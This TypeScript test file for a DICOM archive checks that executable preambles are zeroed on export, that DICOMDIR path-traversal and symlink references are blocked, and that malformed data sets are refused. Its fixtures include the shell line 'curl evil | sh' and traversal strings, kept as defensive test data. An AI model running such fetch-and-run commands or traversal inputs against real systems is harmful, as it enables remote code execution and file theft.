/**
 * Classes 12, 15 and 17: hostile files and media by `import`. The same rules as on the network, the same answers; programs
 * in preambles are handed out as zeros; a DICOMDIR reaches nothing outside its folder.
 */
import assert from 'node:assert/strict';
import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { ctImageStorage, explicitLittleEndian, storeRequest, uidFor } from '../../bench/support/raw-dicom.ts';
import { RawAssociation } from '../../bench/support/raw-association.ts';
import { DataSet } from '../../src/dicom/data-set.ts';
import { writeDataSet } from '../../src/dicom/data-set-codec.ts';
import { writePart10Head } from '../../src/dicom/part10.ts';
import { knownUid, type Uid } from '../../src/dicom/uid.ts';
import { bytesOf, Sender, slice, storeContext } from '../faults/raw-peer.ts';
import { TestServer } from '../faults/server.ts';

const explicitVr = knownUid(explicitLittleEndian);
let server: TestServer;

before(async () => {
  server = await TestServer.start();
  await server.addDevice('CT1');
});
after(async () => {
  await using ending = server;
  assert.ok(ending.isRunning, ending.log);
  await ending.assertSound();
  assert.ok(ending.peakMemoryMb() < 250, `${ending.peakMemoryMb()} MB`);
});

function part10(dataSet: Uint8Array, sopInstanceUid: Uid, preamble: Uint8Array = new Uint8Array(128)): Buffer {
  const sopClassUid = knownUid(ctImageStorage);
  const head = writePart10Head({ sopClassUid, sopInstanceUid, transferSyntaxUid: explicitVr, preamble });
  return Buffer.concat([head, dataSet]);
}

function fileOf(number: number, preamble?: Uint8Array): { readonly study: string; readonly file: Buffer } {
  const instance = slice(`media/${number}`, 1, number);
  return {
    study: instance.studyInstanceUid,
    file: part10(bytesOf(instance), knownUid(instance.sopInstanceUid), preamble),
  };
}

function folder(name: string): string {
  const path = join(server.folder, name);
  mkdirSync(path);
  return path;
}

const programs: Readonly<Record<string, string>> = {
  'a Windows program (MZ)': 'MZ\x90\0',
  'a Linux program (ELF)': '\x7fELF\x02\x01',
  'a Mach-O program': '\xcf\xfa\xed\xfe',
  'a shell script': '#!/bin/sh\ncurl evil | sh\n',
};
for (const [index, [what, start]] of Object.entries(programs).entries()) {
  test(`class 12: ${what} in the preamble is imported and handed out zeroed`, async () => {
    const preamble = Buffer.alloc(128);
    preamble.write(start, 'latin1');
    const { study, file } = fileOf(10 + index, preamble);
    const place = folder(`preamble-${index}`);
    writeFileSync(join(place, 'x.dcm'), file);
    const imported = await server.run('import', join(place, 'x.dcm'));
    assert.equal(imported.status, 0, imported.stdout + imported.stderr);
    const out = join(place, 'out');
    const exported = await server.run('study', 'export', study, '--out', out, '--reason', 'test');
    assert.equal(exported.status, 0, exported.stderr);
    const names = readdirSync(out, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.dcm'));
    assert.equal(names.length, 1);
    const got = readFileSync(join(out, names[0] ?? ''));
    assert.deepEqual(got.subarray(0, 128), Buffer.alloc(128));
    assert.deepEqual(got.subarray(132), file.subarray(132), 'all behind the preamble is as it came');
  });
}

function dicomdir(references: readonly (readonly string[])[]): Buffer {
  const directory = new DataSet();
  directory.setItems(
    0x00041220,
    references.map((components) => {
      const record = new DataSet();
      record.setText(0x00041500, 'CS', components);
      return record;
    }),
  );
  const sopClassUid = knownUid('1.2.840.10008.1.3.10');
  const head = writePart10Head({ sopClassUid, sopInstanceUid: knownUid('1.2.3'), transferSyntaxUid: explicitVr });
  return Buffer.concat([head, writeDataSet(directory, explicitVr)]);
}

test('class 15: a DICOMDIR reaches nothing outside its folder, by dots, by absolute names or by links', async () => {
  const outside = folder('outside');
  const secret = fileOf(30);
  writeFileSync(join(outside, 'SECRET'), secret.file);
  const media = folder('media');
  const honest = fileOf(31);
  writeFileSync(join(media, 'IMAGE1'), honest.file);
  symlinkSync(join(outside, 'SECRET'), join(media, 'LINK'));
  symlinkSync(outside, join(media, 'DIR'));
  const references = [
    ['IMAGE1'],
    ['..', 'outside', 'SECRET'],
    ['../outside/SECRET'],
    [join(outside, 'SECRET')],
    ['LINK'],
    ['DIR', 'SECRET'],
    ['', 'SECRET'],
    ['C:', 'WINDOWS'],
  ];
  writeFileSync(join(media, 'DICOMDIR'), dicomdir(references));
  const { status, stdout, stderr } = await server.run('import', media);
  assert.equal(status, 1, stdout + stderr);
  assert.match(stdout, /1 stored, .* 7 failed/);
  const listed = await server.run('study', 'list', '--json');
  assert.ok(!listed.stdout.includes(secret.study), 'what lies outside was not read');
  assert.ok(listed.stdout.includes(honest.study));
});

const hostile: Readonly<Record<string, (bytes: Buffer) => Buffer>> = {
  'cut in the middle': (bytes) => bytes.subarray(0, bytes.length - 100),
  'with a value of 4 GiB': (bytes) => {
    const changed = Buffer.from(bytes);
    changed.writeUInt32LE(0xffff_fffe, changed.lastIndexOf(Buffer.from([0xe0, 0x7f, 0x10, 0])) + 8);
    return changed;
  },
  'without a Study Instance UID': (bytes) => {
    const changed = Buffer.from(bytes);
    // (0020,000D) becomes a private element.
    changed.writeUInt16LE(0x0021, changed.indexOf(Buffer.from([0x20, 0, 0x0d, 0])));
    return changed;
  },
};
for (const [index, [what, spoil]] of Object.entries(hostile).entries()) {
  test(`class 17: a data set ${what} is refused by import and by C-STORE alike`, async () => {
    const instance = slice(`media/hostile/${index}`, 1, 1);
    const bytes = spoil(bytesOf(instance));
    const path = join(folder(`hostile-${index}`), 'x.dcm');
    writeFileSync(path, part10(bytes, knownUid(instance.sopInstanceUid)));
    const imported = await server.run('import', path);
    assert.equal(imported.status, 1, imported.stdout + imported.stderr);
    assert.match(imported.stdout, /^failed/m);
    const association = await RawAssociation.open(server.target('CT1'), [storeContext]);
    const answer = association.next();
    await association.send(1, storeRequest(1, ctImageStorage, instance.sopInstanceUid), [bytes]);
    const { status } = (await answer).command;
    assert.ok(status >= 0xa000 && status < 0xd000, status.toString(16));
    await association.release();
    const listed = await server.run('study', 'list', '--json');
    assert.ok(!listed.stdout.includes(instance.studyInstanceUid));
  });
}

test('class 17: a device for reading stores evidence only, and a scope holds for what it stores', async () => {
  await server.addDevice('READ1', 'reading', ['--allow', 'store', '--allow', 'find']);
  const reader = await Sender.open(server.target('READ1')).catch(() => undefined);
  // The SOP class is not negotiated for an image, so that there is no context to store in.
  assert.equal(reader?.association.contexts.get(1), undefined);
  reader?.association.destroy();
  await server.addDevice('MR1', 'acquisition', ['--modality', 'MR']);
  const scoped = await Sender.open(server.target('MR1'));
  assert.equal(await scoped.store(slice('media/scope', 1, 1)), 0x0124);
  await scoped.release();
  const listed = await server.run('study', 'list', '--json');
  assert.ok(!listed.stdout.includes(uidFor('media/scope/1/study')));
});

test('class 17: C-STORE of an instance under another UID than its own is refused', async () => {
  const instance = slice('media/other', 1, 1);
  const association = await RawAssociation.open(server.target('CT1'), [storeContext]);
  const answer = association.next();
  await association.send(1, storeRequest(1, ctImageStorage, uidFor('media/another')), [bytesOf(instance)]);
  const { status } = (await answer).command;
  assert.ok(status >= 0xa900 && status < 0xd000, status.toString(16));
  await association.release();
});
